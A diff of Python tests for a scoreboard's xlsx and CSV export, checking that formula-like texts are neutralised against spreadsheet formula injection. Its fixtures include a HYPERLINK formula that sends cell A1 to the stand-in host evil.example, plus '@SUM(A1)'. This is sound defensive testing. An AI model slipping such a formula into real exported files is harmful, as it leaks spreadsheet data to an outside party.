@@ -30,9 +30,9 @@ from scoreboard.store.sheets import record_sheet
 from tests.support import COMPETITION, half_judged
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-TITLES = {"e1": "=1+1", "e2": "+1", "e3": "-2", "o1": "\tx"}  # e1 88.83, e2 80.00, e3 no total, o1 no sheets
+TITLES = {"e1": "=1+1", "e2": "+1", "e3": "-2", "o1": "@x"}  # e1 88.83, e2 80.00, e3 no total, o1 no sheets
 TEAMS = {"t1": LINK, "t2": "@SUM(A1)"}  # e1, e3 in t1; e2, o1 in t2
-CONTESTANT = "\rx"  # e1's contestant
+CONTESTANT = "-x"  # e1's contestant (a tab or a line break never reaches a name: see test_texts.py)
 
 
 def hostile() -> dict[str, Any]:
@@ -87,12 +87,11 @@ def test_xlsx_writes_formula_like_texts_as_string_cells(url: str, tmp_path: Path
     rows = [{h: c for h, c in zip(headers, row, strict=True)} for row in hot.iter_rows(min_row=3)]
     assert [(r["Entry"].value, r["Entry"].data_type) for r in rows] == [("=1+1", "s"), ("+1", "s"), ("-2", "s")]
     assert [(r["Team"].value, r["Team"].data_type) for r in rows] == [(LINK, "s"), ("@SUM(A1)", "s"), (LINK, "s")]
-    # XML reads a raw carriage return back as a line feed: still the text, as a string cell
-    assert (rows[0]["Contestants"].value, rows[0]["Contestants"].data_type) == ("\nx", "s")
+    assert (rows[0]["Contestants"].value, rows[0]["Contestants"].data_type) == ("-x", "s")
     assert [(r["Rank"].value, r["Rank"].data_type) for r in rows] == [(1, "n"), (2, "n"), (None, "n")]
     assert [(r["Total"].value, r["Total"].data_type) for r in rows[:2]] == [(88.83, "n"), (80, "n")]
     other = wb["Pastry"]
-    assert (other["C3"].value, other["C3"].data_type, other["C2"].value) == ("\tx", "s", "Entry")
+    assert (other["C3"].value, other["C3"].data_type, other["C2"].value) == ("@x", "s", "Entry")
     detail = wb["Judges' marks"]
     titles = {c.value for c in detail["C"][2:]}
     assert titles == {"=1+1", "+1", "-2"} and all(c.data_type == "s" for c in detail["C"][2:])
@@ -108,8 +107,8 @@ def test_csv_prefixes_formula_like_texts_and_never_numbers(url: str, tmp_path: P
     rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
     assert [(r["Rank"], r["Entry"], r["Team"], r["Total"]) for r in rows] == [
         ("1", "'=1+1", "'" + LINK, "88.83"), ("2", "'+1", "'@SUM(A1)", "80.00"), ("", "'-2", "'" + LINK, ""),
-        ("", "'\tx", "'@SUM(A1)", "")]
-    assert rows[0]["Contestants"] == "'\rx"
+        ("", "'@x", "'@SUM(A1)", "")]
+    assert rows[0]["Contestants"] == "'-x"
     detail = list(csv.DictReader(io.StringIO((tmp_path / "cup-detail.csv").read_bytes().decode("utf-8-sig"),
                                              newline="")))
     assert {r["Entry"] for r in detail} == {"'=1+1", "'+1", "'-2"}
@@ -120,9 +119,9 @@ def test_csv_prefixes_formula_like_texts_and_never_numbers(url: str, tmp_path: P
 
 def test_csv_leaves_negative_numbers_and_plain_texts_alone() -> None:
     table = Table("t", "T", ("=head", "Score", "Rank", "Name"),
-                  [[None, Decimal("-2.50"), -1, "a-b"], ["@x", Decimal("0.00"), 3, "+"]])
-    lines = csv_bytes(table).decode("utf-8-sig").splitlines()
-    assert lines == ["'=head,Score,Rank,Name", ",-2.50,-1,a-b", "'@x,0.00,3,'+"]
+                  [[None, Decimal("-2.50"), -1, "a-b"], ["@x", Decimal("0.00"), 3, "+"], ["\tx", None, None, "\ry"]])
+    lines = csv_bytes(table).decode("utf-8-sig").split("\r\n")
+    assert lines == ["'=head,Score,Rank,Name", ",-2.50,-1,a-b", "'@x,0.00,3,'+", "'\tx,,,\"'\ry\"", ""]
 
 
 def test_offline_standings_csv_prefixes_texts_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
